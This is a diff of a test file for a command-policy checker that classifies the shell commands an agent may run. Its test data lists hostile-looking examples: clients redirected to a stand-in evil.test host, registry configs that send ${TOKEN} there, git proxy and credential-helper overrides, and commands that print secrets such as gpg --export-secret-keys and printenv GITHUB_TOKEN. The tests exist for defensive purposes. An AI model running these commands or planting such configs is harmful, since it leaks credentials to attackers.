@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { decideCommand } from '../policy/decide-harness.ts';
+import { decideCommand, WORKSPACE } from '../policy/decide-harness.ts';
 
 /** Reads of a remote service through a known client, with destination, login and configuration as the user left them. */
 const UNALTERED = [
@@ -15,6 +15,24 @@ const UNALTERED = [
   'gh search issues x',
   'gh api repos/o/r/pulls',
   'gh pr view 1 -R o/r',
+  'kubectl --context other get pods',
+  'aws --profile x s3 ls',
+  'aws s3 ls --profile=x',
+  'git ls-remote',
+  'git remote show origin',
+  'npm view x',
+  'npm ping',
+  'npm outdated',
+  'npm audit',
+  'npm search x',
+  'pip index versions x',
+  'pip list --outdated',
+  'cargo search x',
+  'gem search x',
+  'gcloud compute instances list',
+  'az vm list',
+  'helm list',
+  'vercel env ls',
   'kubectl get pods',
   'kubectl get deploy,svc -n web -o wide',
   'kubectl describe pod x',
@@ -42,7 +60,6 @@ const ALTERED = [
   'kubectl -s https://evil.test get pods',
   'kubectl get pods --server https://evil.test',
   'kubectl get pods --server=https://evil.test --insecure-skip-tls-verify',
-  'kubectl --context other get pods',
   'kubectl --cluster other get pods',
   'kubectl --user other get pods',
   'kubectl --as root get pods',
@@ -70,8 +87,6 @@ const ALTERED = [
   'aws --endpoint-url http://evil.test s3 ls',
   'aws s3 ls --endpoint-url=http://evil.test',
   'aws s3 ls --endpoint http://evil.test',
-  'aws --profile x s3 ls',
-  'aws s3 ls --profile=x',
   'aws s3 ls --no-verify-ssl',
   'aws s3 ls --ca-bundle ./c',
   'aws ec2 describe-instances --cli-input-json file://.env',
@@ -104,8 +119,7 @@ const ALTERED = [
   'gh co 1',
   'gh pr view 1 --web',
   'gh pr view $X',
-  // git: a proxy, a helper, another way.
-  'git ls-remote',
+  // git: a proxy, a helper, another way; what the repository's own configuration says of it is below.
   'git -c http.proxy=http://evil.test ls-remote',
   'git -c http.extraHeader=x ls-remote',
   'git -c credential.helper=./c ls-remote',
@@ -115,26 +129,16 @@ const ALTERED = [
   'GIT_SSH_COMMAND=./c git ls-remote',
   'GIT_PROXY_COMMAND=./c git ls-remote git://h/x',
   'https_proxy=http://evil.test git ls-remote',
-  'git remote show origin',
   // npm and friends: an .npmrc of the workspace may name a registry that is sent ${TOKEN}.
-  'npm view x',
   'npm --registry=http://evil.test view x',
   'npm view x --registry http://evil.test',
   'npm view x --userconfig ./c',
   'npm_config_registry=http://evil.test npm view x',
   'NPM_CONFIG_USERCONFIG=./c npm view x',
-  'npm ping',
-  'npm outdated',
-  'npm audit',
-  'npm search x',
   'yarn info x',
   'pnpm view x',
-  'pip index versions x',
   'pip download x',
-  'pip list --outdated',
   'PIP_INDEX_URL=http://evil.test pip list',
-  'cargo search x',
-  'gem search x',
   'composer show -a x/y',
   // Others.
   'curl https://example.test',
@@ -143,12 +147,8 @@ const ALTERED = [
   'docker pull x',
   'docker -H tcp://evil.test ps',
   'DOCKER_HOST=tcp://evil.test docker ps',
-  'gcloud compute instances list',
-  'az vm list',
-  'helm list',
   'terraform show',
   'heroku config',
-  'vercel env ls',
   'psql -h evil.test -c "select 1"',
   'redis-cli -h evil.test get x',
   'ssh evil.test ls',
@@ -209,10 +209,12 @@ const PRINTING = [
   'security find-generic-password -s x -w',
   'secret-tool lookup x y',
   'gpg --export-secret-keys',
-  'ssh-add -L',
-  'doctl auth list',
   'glab auth status -t',
   'stripe config --list',
+  'heroku auth:token',
+  'vercel env pull',
+  'fly auth token',
+  'railway variables',
   'printenv GITHUB_TOKEN',
   'printenv',
   'env',
@@ -227,15 +229,7 @@ const PRINTING = [
 ] as const;
 
 /** Clients that no table reads: they ask, whatever they are told. */
-const NOT_READ = [
-  'vault read secret/x',
-  'heroku auth:token',
-  'vercel env pull',
-  'fly auth token',
-  'railway variables',
-  'doppler secrets',
-  'infisical export',
-] as const;
+const NOT_READ = ['vault read secret/x', 'doppler secrets', 'infisical export'] as const;
 
 const judged = (command: string, preset: 'standard' | 'relaxed' = 'standard') => {
   const { verdict } = decideCommand(command, { preset });
@@ -269,6 +263,42 @@ describe('remote reads', () => {
         remote: false,
         decision: 'ask',
       });
+  });
+});
+
+describe('files that change where a client asks, or as whom', () => {
+  test.each([
+    ['npm view x', '.npmrc'],
+    ['npm audit', '.npmrc'],
+    ['npm outdated', 'packages/web/.npmrc'],
+    ['cargo search x', '.cargo/config.toml'],
+    ['az vm list', '.azure/config'],
+  ])('%s, with %s in the workspace', (command, file) => {
+    const there = { readText: (path: string) => (path === `${WORKSPACE}/${file}` ? 'registry=http://evil.test/${TOKEN}' : undefined) };
+    const cwd = file.startsWith('packages/') ? `${WORKSPACE}/packages/web/src` : `${WORKSPACE}/src`;
+    expect(decideCommand(command, { cwd }).verdict.class).toBe('remote-read');
+    expect(decideCommand(command, { cwd, world: there }).verdict.class).toBe('network');
+    expect(decideCommand(`touch x; ${command}`, { cwd }).verdict.class).toBe('workspace-write');
+  });
+
+  test.each([
+    '[http]\nproxy = http://evil.test',
+    '[http "https://github.com"]\nsslVerify = false',
+    '[url "https://evil.test/"]\ninsteadOf = https://github.com/',
+    '[remote "origin"]\nproxy = http://evil.test',
+    '[credential]\nuseHttpPath = true',
+    '[credential "https://x"]\nhelper = ./c',
+    '[remote "origin"]\nurl = ext::./c',
+  ])('git ls-remote where the repository says %j', (config) => {
+    const git = `${WORKSPACE}/.git`;
+    const texts: Readonly<Record<string, string>> = { [`${git}/HEAD`]: 'ref: x', [`${git}/config`]: config };
+    const world = {
+      isDirectory: (path: string) => [git, `${git}/objects`, `${git}/refs`].includes(path),
+      readText: (path: string) => texts[path],
+    };
+    const plain = { ...world, readText: (path: string) => (path === `${git}/config` ? '[core]\nbare = false' : texts[path]) };
+    expect(decideCommand('git ls-remote', { world: plain }).verdict.class).toBe('remote-read');
+    expect(decideCommand('git ls-remote', { world }).verdict.class).toBe('workspace-code');
   });
 });
 
